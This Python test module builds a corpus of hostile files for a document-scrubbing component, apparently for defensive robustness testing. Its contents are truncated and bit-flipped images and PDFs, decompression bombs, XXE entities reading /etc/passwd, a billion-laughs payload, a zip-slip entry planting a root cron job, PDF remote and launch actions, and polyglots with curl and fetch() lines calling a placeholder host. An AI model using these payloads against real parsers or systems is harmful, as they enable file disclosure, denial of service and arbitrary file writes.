"""More than three hundred files that want to break, fill or leave what opens them. Made here alone."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from hotline.scrubbing.specimen import specimens
from tests.hotline.scrubbing import documents, pictures

CUTS, FLIPS = 16, 30  # of each of five kinds
OUT = b"http://192.0.2.1/"  # TEST-NET-1: nothing is there
XXE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha">%s]><a>&z;</a>' % b"".join(
    b'<!ENTITY %c "%s">' % (each, b"&%c;" % (each - 1) * 10) for each in range(ord("b"), ord("z") + 1)
)


def corpus() -> Iterator[tuple[str, bytes]]:
    """Each file with a name that says what it does."""
    yield from _damaged()
    yield from _picture_bombs()
    yield from _documents()
    yield from _archives()
    yield from _in_disguise()
    yield from _loaded()


def _damaged() -> Iterator[tuple[str, bytes]]:
    """Sound files cut off, and with bytes changed: what makes a parser read beyond its bounds."""
    sound = (
        pictures.phone_jpeg(),
        pictures.phone_png(),
        pictures.phone_webp(),
        documents.pdf(),
        specimens()[3],
    )
    chance = random.Random(1109)
    for kind, content in enumerate(sound):
        for cut in range(CUTS):
            yield f"cut-{kind}-{cut}", content[: 1 + len(content) * cut // CUTS]
        for flip in range(FLIPS):
            changed = bytearray(content)
            for _ in range(1 + flip):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield f"flip-{kind}-{flip}", bytes(changed)


def png_head(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG that claims any size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(body))
        + _chunk(b"IEND", b"")
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _picture_bombs() -> Iterator[tuple[str, bytes]]:
    for side in (4_100, 9_000, 13_000, 20_000):
        yield f"png-{side}", pictures.saved(Image.new("1", (side, side)), "PNG", optimize=False)
    for side in (30_000, 65_535, 2**31 - 1):
        yield f"png-claims-{side}", png_head(side, side)
    yield "png-claims-nothing", png_head(0, 0)
    yield "png-text-bomb", _with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9))
    yield "png-profile-bomb", _with_chunk(b"iCCP", b"icc\0\0" + zlib.compress(bytes(100_000_000), 9))
    yield "png-itxt-xxe", _with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XXE + b"<a>&b;</a>")
    large = bytearray(pictures.phone_jpeg())
    at = large.index(b"\xff\xc0") + 5
    large[at : at + 4] = b"\xff\xff\xff\xff"
    yield "jpeg-claims-65535", bytes(large)
    frames = [pictures.scene(seed=seed) for seed in range(40)]
    yield "apng-40-frames", pictures.saved(frames[0], "PNG", save_all=True, append_images=frames[1:])
    yield "webp-40-frames", pictures.saved(frames[0], "WEBP", save_all=True, append_images=frames[1:])
    yield (
        "jpeg-deep-tags",
        pictures.saved(pictures.scene(), "JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0" + b"\xff" * 60_000),
    )


def _with_chunk(name: bytes, content: bytes) -> bytes:
    whole = pictures.saved(pictures.scene(), "PNG")
    return whole[:33] + _chunk(name, content) + whole[33:]


def _documents() -> Iterator[tuple[str, bytes]]:
    yield "pdf-script", documents.script()
    yield "pdf-launch", documents.launch()
    yield "pdf-embedded", documents.embedded()
    yield "pdf-form", documents.form()
    yield "pdf-flate-bomb", documents.flate_bomb()
    yield "pdf-picture-bomb", documents.picture_bomb()
    yield "pdf-100000-pages", documents.pdf(count=100_000)
    yield "pdf-61-pages", documents.pdf(count=61)
    yield "pdf-locked", documents.locked()
    yield "pdf-huge-page", documents.pdf(box=b"[0 0 99999999 99999999]")
    yield "pdf-flat-page", documents.pdf(box=b"[0 0 99999999 1]")
    yield "pdf-empty-page", documents.pdf(box=b"[0 0 0 0]")
    yield "pdf-inverse-page", documents.pdf(box=b"[200 100 0 0]")
    yield "pdf-loop", documents.pdf(page=b"/Kids[2 0 R]").replace(b"/Type/Page/", b"/Type/Pages/")
    yield "pdf-nested", documents.pdf(catalog=b"/X" + b"[" * 50_000 + b"]" * 50_000)
    yield "pdf-deep-states", documents.pdf(content=b"q " * 200_000)
    yield "pdf-remote", documents.pdf(b"<</S/GoToR/F(\\\\192.0.2.1\\share)>>", catalog=b"/OpenAction 7 0 R")
    yield "pdf-address", documents.pdf(b"<</S/URI/URI(%s)>>" % OUT, catalog=b"/OpenAction 7 0 R")
    yield (
        "pdf-xfa-xxe",
        documents.pdf(
            b"<</Length 80>>stream\n%s<a>&b;</a>\nendstream" % XXE,
            catalog=b"/AcroForm<</XFA 7 0 R/Fields[]>>",
        ),
    )
    for name in (
        b"JBIG2Decode",
        b"JPXDecode",
        b"CCITTFaxDecode",
        b"DCTDecode",
        b"LZWDecode",
        b"RunLengthDecode",
    ):
        picture = (
            b"<</Subtype/Image/Width 4000/Height 4000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/%s"
        )
        yield (
            f"pdf-{name.decode()}",
            documents.pdf(
                picture % name
                + b"/Length 4000>>stream\n"
                + random.Random(7).randbytes(4000)
                + b"\nendstream",
                page=b"/Resources<</XObject<</P 7 0 R>>>>",
                content=b"200 0 0 100 0 0 cm /P Do",
            ),
        )


def _archives() -> Iterator[tuple[str, bytes]]:
    yield "zip-slip", _zip({"../../etc/cron.d/a": b"* * * * * root id"})
    yield "zip-nested", _zip({"a.zip": _zip({"b.zip": _zip({"c": bytes(1_000_000)})})})
    yield "zip-bomb", _zip({f"{number}": bytes(20_000_000) for number in range(5)})
    yield "docx-remote-template", _zip({"word/_rels/settings.xml.rels": b'<a Target="%s"/>' % OUT})
    yield "docx-xxe", _zip({"word/document.xml": XXE + b"<a>&b;</a>", "[Content_Types].xml": b"<a/>"})
    yield "docm-macro", _zip({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0", "[Content_Types].xml": b"<a/>"})
    yield "xlsx-laughs", _zip({"xl/sharedStrings.xml": LAUGHS, "[Content_Types].xml": b"<a/>"})
    yield "gzip-bomb", gzip.compress(bytes(50_000_000))
    yield "fits-gzip-bomb", gzip.compress(b"SIMPLE  =                    T" + bytes(50_000_000))


def _zip(members: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def _in_disguise() -> Iterator[tuple[str, bytes]]:
    """Two files in one, and files whose beginning is that of another kind."""
    page = b"<html><script>fetch('%s')</script></html>" % OUT
    shell = b"#!/bin/sh\ncurl %s\n" % OUT
    yield "html-then-pdf", page + documents.pdf()
    yield "pdf-then-html", documents.pdf() + page
    yield "jpeg-then-zip", pictures.phone_jpeg(behind=_zip({"a.js": page}))
    yield "jpeg-then-pdf", pictures.phone_jpeg(behind=documents.script())
    yield "png-then-html", pictures.phone_png() + page
    yield "webp-then-shell", pictures.phone_webp() + shell
    yield "gif-then-script", b"GIF89a/*" + page + b"*/=1;alert(1)"
    heads = (
        b"\xff\xd8\xff",
        b"\x89PNG\r\n\x1a\n",
        b"RIFF\xff\xff\xff\xffWEBP",
        b"%PDF-1.7\n",
        b"BM",
        b"II*\0",
        b"8BPS",
    )
    for number, head in enumerate(heads):
        for body in (page, shell, LAUGHS, bytes(5000), random.Random(number).randbytes(5000)):
            yield f"head-{number}-{len(body)}", head + body
    for name in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "SGI", "EPS", "PCX"):
        yield f"picture-{name}", pictures.saved(pictures.scene(256, 256), name)


def _loaded() -> Iterator[tuple[str, bytes]]:
    yield (
        "svg-xxe",
        b'<?xml version="1.0"?>%s<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>' % XXE,
    )
    yield "xml-laughs", LAUGHS
    yield "postscript", b"%!PS\n(/etc/passwd)(r)file 1000 string readstring pop print"
    yield "program", b"\x7fELF" + bytes(500)
    yield "program-windows", b"MZ" + bytes(500)
    yield "office-old", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)
    yield "heic", b"\0\0\0\x18ftypheic" + bytes(5000)
    yield "sound", b"ID3\x04" + bytes(5000)
    yield "film", b"\0\0\0\x18ftypmp42" + bytes(5000)
    for size in (1, 2, 3, 4, 11, 12):
        yield f"zeros-{size}", bytes(size)
